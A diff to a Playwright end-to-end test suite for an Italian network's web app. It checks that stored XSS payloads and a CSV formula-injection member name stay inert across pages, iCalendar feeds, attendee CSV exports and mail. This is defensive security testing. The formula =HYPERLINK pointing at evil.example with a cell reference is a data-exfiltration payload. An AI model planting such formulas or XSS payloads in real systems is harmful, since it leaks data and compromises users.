@@ -1,7 +1,8 @@
 import fs from 'node:fs'
 import path from 'node:path'
 import { expect, test, type Page } from '@playwright/test'
-import { createUser, signIn } from './helpers'
+import { parse as parseCsv } from 'csv-parse/sync'
+import { createUser, parseIcs, signIn } from './helpers'
 
 // Issue 12: stored XSS in a real browser. The shared corpus goes into the fields that show member text — post
 // bodies (the whole corpus), thread titles and tags, a meeting's title, description and place, a member's name —
@@ -59,6 +60,14 @@ async function expectInert(page: Page, url: string) {
           bad.push(`${el.tagName} ${a.name}=${a.value.slice(0, 40)}`)
       }
       if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META'].includes(el.tagName)) bad.push(el.tagName)
+    }
+    // JSON-LD is data: a payload with </script> must not end it early (each block parses whole).
+    for (const s of Array.from(document.querySelectorAll('script[type="application/ld+json"]'))) {
+      try {
+        JSON.parse(s.textContent ?? '')
+      } catch {
+        bad.push(`JSON-LD does not parse: ${(s.textContent ?? '').slice(0, 60)}`)
+      }
     }
     return bad
   })
@@ -118,7 +127,7 @@ test('the XSS corpus stays inert wherever members can write it', async ({ browse
   await page.getByLabel('Fine (ora di Roma)').fill('2027-10-01T12:00')
   await page.getByLabel('Indirizzo').fill(eventPlace!.slice(0, 200))
   await page.getByRole('button', { name: "Pubblica l'evento" }).click()
-  await expect(page).toHaveURL(/\/eventi\/[a-z0-9]+$/)
+  await expect(page).toHaveURL(/\/eventi\/(?!nuovo$)[a-z0-9]+$/)
   const eventUrl = new URL(page.url()).pathname
 
   const handle = await page.getByTestId('account-link').getAttribute('href')
@@ -146,5 +155,145 @@ test('the XSS corpus stays inert wherever members can write it', async ({ browse
   console.log(
     `xss: ${storable.length} of ${corpus.length} payloads stored (the rest refused at input for control characters), ${short.length} fit a title; ` +
       `fields: post bodies, thread titles and tags, meeting title/description/place, member name; ${pagesChecked.length} page views checked`,
+  )
+})
+
+test('practices, organisation names, material titles and the files made from member text stay inert', async ({ browser }) => {
+  test.setTimeout(240_000)
+  const dialogs: string[] = []
+  let confirmExpected = false
+  async function as(email?: string, password?: string) {
+    const page = await (await browser.newContext({ bypassCSP: true })).newPage()
+    page.on('dialog', (d) => {
+      if (confirmExpected && d.type() === 'confirm') return void d.accept()
+      dialogs.push(d.message())
+      void d.dismiss()
+    })
+    if (email) await signIn(page, email, password!)
+    return page
+  }
+  const tag = Date.now().toString(36)
+  // A member whose name is a spreadsheet formula (it reaches the organiser's attendee list).
+  const formula = `=HYPERLINK("http://evil.example/?x="&A1,"Clicca ${tag}")`
+  const author = createUser({ name: formula })
+  const me = await as(author.email, author.password)
+  const bodies = chunks()
+  const [practiceTitle, summary, resultLabel, orgName, eventTitle, materialTitle] = pick(6, 23)
+  const unit = short.find((p) => p.length <= 30 && /</.test(p))!
+
+  // 1. A good practice whose every text field is a payload, submitted and published by a moderator.
+  await me.goto('/buone-pratiche/nuova')
+  await me.getByLabel('Titolo').fill(`${tag} ${practiceTitle}`.slice(0, 150))
+  await me.getByLabel('Sintesi').fill(`${summary} — sintesi di prova della pratica`)
+  await me.getByRole('textbox', { name: 'Testo (Markdown)' }).fill(bodies.at(-1)!.padEnd(60, '.'))
+  await me.getByLabel('EMAS').check()
+  await me.getByLabel('Tema').selectOption({ label: 'Acqua' })
+  await me.getByLabel('Regione').selectOption({ label: 'Toscana' })
+  await me.getByLabel('Risultato 1: che cosa').fill(resultLabel!.slice(0, 120))
+  await me.getByLabel('Risultato 1: cifra').fill('3,5')
+  await me.getByLabel('Risultato 1: unità').fill(unit)
+  await me.getByRole('button', { name: 'Invia alla revisione' }).click()
+  await expect(me.getByRole('status')).toContainText('in revisione')
+  const practiceUrl = new URL(me.url()).pathname
+  const moderator = createUser({ role: 'MODERATOR' })
+  const mod = await as(moderator.email, moderator.password)
+  await expectInert(mod, practiceUrl)
+  await mod.getByTestId('review-panel').getByRole('button', { name: 'Pubblica' }).click()
+  await expect(mod.getByTestId('review-panel')).toHaveCount(0)
+
+  // 2. An organisation whose name is a payload: applied for, then approved by an admin.
+  await me.goto('/rete/aderisci')
+  const form = me.getByRole('form', { name: 'Nuova domanda di adesione' })
+  const hostileOrg = `${tag} ${orgName}`.slice(0, 200)
+  await form.getByLabel('Nome dell’organizzazione').fill(hostileOrg)
+  await form.getByLabel('Tipo', { exact: true }).selectOption({ label: 'PMI' })
+  await form.getByLabel('Partita IVA', { exact: true }).fill('00743110157')
+  await form.getByLabel('Regione', { exact: true }).selectOption({ label: 'Toscana' })
+  await form.getByLabel('Provincia', { exact: true }).fill('Prato')
+  await form.getByLabel('Settore', { exact: true }).fill('Tessile')
+  await form.getByLabel('Nome e cognome').fill('Luca Verdi')
+  await form.getByLabel('Ruolo nell’organizzazione').fill('Amministratore')
+  await form.getByRole('checkbox', { name: /^1\. / }).check()
+  await form.getByLabel('Dichiaro di avere i poteri').check()
+  await form.getByRole('button', { name: 'Invia la domanda' }).click()
+  await expect(me.getByTestId('my-adhesions')).toContainText('Inviata, in esame')
+  const adminUser = createUser({ role: 'ADMIN' })
+  const admin = await as(adminUser.email, adminUser.password)
+  await expectInert(admin, '/admin/adesioni')
+  const adhesionUrl = (await admin.getByTestId('adhesions-open').getByRole('link', { name: hostileOrg }).getAttribute('href'))!
+  await expectInert(admin, adhesionUrl)
+  await admin.getByRole('button', { name: 'Approva' }).click()
+  const orgLink = admin.getByRole('link', { name: 'Vedi l’organizzazione nel registro' })
+  await expect(orgLink).toBeVisible()
+  const orgUrl = (await orgLink.getAttribute('href'))!
+
+  // 3. A meeting with a payload title and a material whose title is a payload; the formula-named member registers.
+  const organiser = createUser({ role: 'ORGANISER' })
+  const org = await as(organiser.email, organiser.password)
+  await org.goto('/eventi/nuovo')
+  const hostileEvent = `${eventTitle}`.padEnd(3, '.').slice(0, 150)
+  await org.getByLabel('Titolo').fill(hostileEvent)
+  await org.getByLabel('Tipo').selectOption({ label: 'Plenaria' })
+  await org.getByRole('textbox', { name: 'Descrizione (Markdown)' }).fill('Ordine del giorno')
+  await org.getByLabel('Inizio (ora di Roma)').fill('2027-11-02T10:00')
+  await org.getByLabel('Fine (ora di Roma)').fill('2027-11-02T12:00')
+  await org.getByLabel('Indirizzo').fill('Sala consiliare')
+  await org.getByRole('button', { name: "Pubblica l'evento" }).click()
+  await expect(org).toHaveURL(/\/eventi\/(?!nuovo$)[a-z0-9]+$/)
+  const eventUrl = new URL(org.url()).pathname
+  const eventId = eventUrl.split('/').at(-1)!
+  const materials = org.getByRole('form', { name: 'Aggiungi un verbale o un materiale' })
+  await materials.getByLabel('Tipo').selectOption({ label: 'Presentazione' })
+  await materials.getByLabel('Titolo').fill(materialTitle!.slice(0, 150))
+  await materials.getByLabel('Link (https://…)').fill('https://example.org/slide')
+  await materials.getByRole('button', { name: 'Aggiungi' }).click()
+  await expect(org.getByText('Materiale aggiunto.')).toBeVisible()
+  await me.goto(eventUrl)
+  await me.getByRole('button', { name: 'Iscriviti' }).click()
+  await expect(me.getByRole('button', { name: "Annulla l'iscrizione" })).toBeVisible()
+
+  // Every page that shows these fields, signed in and anonymous.
+  const anon = await as()
+  for (const [page, url] of [
+    [me, practiceUrl],
+    [me, '/buone-pratiche/mie'],
+    [me, eventUrl],
+    [me, '/profilo'],
+    [org, eventUrl],
+    [admin, orgUrl],
+    [anon, practiceUrl],
+    [anon, '/buone-pratiche'],
+    [anon, '/buone-pratiche?q=xss'],
+    [anon, '/territori/toscana'],
+    [anon, '/rete/aderenti'],
+    [anon, orgUrl],
+    [anon, eventUrl],
+    [anon, '/eventi'],
+    [anon, `/cerca?q=${tag}`],
+  ] as const)
+    await expectInert(page, url)
+
+  // The files made from member text. iCalendar: one event, its title intact (no injected lines).
+  const ics = await (await anon.request.get(`/feeds/events/${eventId}.ics`)).text()
+  const vevents = parseIcs(ics).getAllSubcomponents('vevent')
+  expect(vevents).toHaveLength(1)
+  expect(vevents[0]!.getFirstPropertyValue('summary')).toBe(hostileEvent)
+  // The attendee CSV: no cell a spreadsheet would run as a formula; the name is still readable.
+  const csv = await (await org.request.get(`/feeds/events/${eventId}.csv`)).text()
+  const cells = (parseCsv(csv.replace(/^\uFEFF/, '')) as string[][]).flat()
+  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([])
+  expect(cells).toContain(`'${formula}`)
+  // E-mail: cancelling tells the attendee; the mail's subject is one line and the outbox page is inert.
+  await org.goto(eventUrl)
+  confirmExpected = true
+  await org.getByRole('button', { name: "Annulla l'evento" }).click()
+  await expect(org.getByText('Questo evento è stato annullato.')).toBeVisible()
+  confirmExpected = false
+  await expectInert(admin, '/admin/posta')
+  const mail = admin.locator('article', { has: admin.getByTestId('mail-to').getByText(author.email, { exact: true }) }).first()
+  await expect(mail).toContainText(hostileEvent)
+  expect(dialogs).toEqual([])
+  console.log(
+    `xss: practice title/summary/body/result, organisation name, material title, member name; ${pagesChecked.length} page views checked in all; .ics, CSV and mail checked`,
   )
 })
